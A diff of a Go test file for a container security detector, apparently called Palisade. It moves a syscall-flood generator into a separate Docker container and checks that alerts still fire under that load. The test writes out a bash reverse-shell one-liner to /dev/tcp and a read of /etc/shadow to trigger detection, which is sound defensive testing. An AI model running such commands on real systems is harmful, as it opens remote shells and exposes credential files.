@@ -8,16 +8,10 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
 	"strings"
-	"sync"
-	"sync/atomic"
 	"syscall"
 	"testing"
 	"time"
-	"unsafe"
-
-	"golang.org/x/sys/unix"
 
 	"github.com/palisade-sec/palisade/internal/detect"
 	"github.com/palisade-sec/palisade/internal/testutil"
@@ -126,42 +120,41 @@ func TestEvasionHardLinkAndIOUring(t *testing.T) {
 // (not captured: the cost of the filter alone) in two, open+close of a
 // harmless file (captured, and shed by the kernel under pressure) in a
 // third. It counts the syscalls made in cheap and opens.
-func flood(stop *atomic.Bool, wg *sync.WaitGroup, cheap, opens *atomic.Uint64) {
-	path, _ := unix.BytePtrFromString("/etc/hostname")
-	cwd := unix.AT_FDCWD
-	for range 2 {
-		wg.Add(1)
-		go func() {
-			defer wg.Done()
-			runtime.LockOSThread()
-			var k uint64
-			for !stop.Load() {
-				for range 1024 {
-					syscall.RawSyscall(unix.SYS_GETPPID, 0, 0, 0)
-				}
-				k += 1024
-			}
-			cheap.Add(k)
-		}()
+// floodContainer starts the co-tenant: a container running the flood
+// program (testdata/flood) from the image img. Its stop function ends the
+// flood and returns how many getppid calls and captured opens+closes it
+// made, and over how long.
+func floodContainer(t *testing.T, img, bin string) (stop func() (cheap, opens uint64, d time.Duration)) {
+	t.Helper()
+	name := fmt.Sprintf("palisade-flood-%d", time.Now().UnixNano())
+	if out, err := exec.Command("docker", "run", "-d", "--name", name, "-v", bin+":/flood:ro", img, "/flood", "-cheap", "1", "-opens", "2").CombinedOutput(); err != nil {
+		t.Fatalf("docker run flood: %v\n%s", err, out)
 	}
-	wg.Add(1)
-	go func() {
-		defer wg.Done()
-		runtime.LockOSThread()
-		var k uint64
-		for !stop.Load() {
-			for range 256 {
-				fd, _, _ := syscall.RawSyscall6(unix.SYS_OPENAT, uintptr(cwd), uintptr(unsafe.Pointer(path)), unix.O_RDONLY, 0, 0, 0)
-				syscall.RawSyscall(unix.SYS_CLOSE, fd, 0, 0)
-			}
-			k += 512
+	t.Cleanup(func() { exec.Command("docker", "rm", "-f", name).Run() })
+	return func() (uint64, uint64, time.Duration) {
+		t.Helper()
+		if out, err := exec.Command("docker", "kill", "-s", "TERM", name).CombinedOutput(); err != nil {
+			t.Fatalf("docker kill flood: %v\n%s", err, out)
 		}
-		opens.Add(k)
-	}()
+		if out, err := exec.Command("docker", "wait", name).CombinedOutput(); err != nil {
+			t.Fatalf("docker wait flood: %v\n%s", err, out)
+		}
+		out, err := exec.Command("docker", "logs", name).CombinedOutput()
+		if err != nil {
+			t.Fatalf("docker logs flood: %v\n%s", err, out)
+		}
+		var cheap, opens uint64
+		var secs float64
+		if _, err := fmt.Sscanf(strings.TrimSpace(string(out)), "cheap=%d opens=%d seconds=%g", &cheap, &opens, &secs); err != nil {
+			t.Fatalf("flood's report %q: %v", out, err)
+		}
+		exec.Command("docker", "rm", "-f", name).Run()
+		return cheap, opens, time.Duration(secs * float64(time.Second))
+	}
 }
 
-// A co-tenant flood of syscalls must not hide a reverse shell or a read
-// of /etc/shadow in a container: the kernel sheds the flood's records
+// A co-tenant flood of syscalls from another container must not hide a
+// reverse shell or a read of /etc/shadow in a third container: the kernel sheds the flood's records
 // (read-only opens of an unprotected file, closes) before they crowd out
 // the ones rules need, and a drop alert says it did. PALISADE_SOAK=1 runs
 // it 10 times (BENCHMARKS.md), else 2.
@@ -201,28 +194,22 @@ func TestFloodKeepsDetections(t *testing.T) {
 	c := evasionContainer(t, img, "--network", "host")
 	time.Sleep(time.Second)
 
+	floodBin := testutil.BuildStatic(t, "./internal/cli/testdata/flood", filepath.Join(t.TempDir(), "flood"))
 	detected := 0
-	var total atomic.Uint64
+	var total uint64
 	var floodTime time.Duration
 	for run := range runs {
-		var stop atomic.Bool
-		var wg sync.WaitGroup
-		var cheap, opens atomic.Uint64
-		start := time.Now()
-		flood(&stop, &wg, &cheap, &opens)
+		stopFlood := floodContainer(t, img, floodBin)
 		time.Sleep(500 * time.Millisecond)
 		before := len(parseAlerts(t, stdout.String()))
 		dockerExec(t, c, fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1' </dev/null; cat /etc/shadow >/dev/null", port))
 		shell := waitAlert(t, &stdout, before, 10*time.Second, "Reverse shell", map[string]string{"container.name": c, "proc.name": "bash"})
 		shadow := waitAlert(t, &stdout, before, 10*time.Second, "Read sensitive file untrusted", map[string]string{"container.name": c, "fd.name": "/etc/shadow"})
-		stop.Store(true)
-		wg.Wait()
-		d := time.Since(start)
+		cheap, opens, d := stopFlood()
 		floodTime += d
-		n := cheap.Load() + opens.Load()
-		total.Add(n)
-		t.Logf("run %d: flood of %.2fM syscalls/s (%.2fM/s getppid, %.2fM/s captured openat+close), reverse shell seen %v, shadow read seen %v",
-			run+1, float64(n)/d.Seconds()/1e6, float64(cheap.Load())/d.Seconds()/1e6, float64(opens.Load())/d.Seconds()/1e6, shell, shadow)
+		total += cheap + opens
+		t.Logf("run %d: flood of %.2fM syscalls/s from another container (%.2fM/s getppid, %.2fM/s captured openat+close), reverse shell seen %v, shadow read seen %v",
+			run+1, float64(cheap+opens)/d.Seconds()/1e6, float64(cheap)/d.Seconds()/1e6, float64(opens)/d.Seconds()/1e6, shell, shadow)
 		if shell && shadow {
 			detected++
 		}
@@ -237,7 +224,7 @@ func TestFloodKeepsDetections(t *testing.T) {
 		t.Fatalf("summary %q: %v", lines[len(lines)-1], err)
 	}
 	t.Logf("detected in %d/%d runs; flood %.2fM syscalls/s on average; agent: %d events, %d shed, %d lost",
-		detected, runs, float64(total.Load())/floodTime.Seconds()/1e6, st.Events, st.Shed, st.Drops)
+		detected, runs, float64(total)/floodTime.Seconds()/1e6, st.Events, st.Shed, st.Drops)
 	if detected != runs {
 		t.Errorf("reverse shell and shadow read detected in %d of %d flooded runs", detected, runs)
 	}
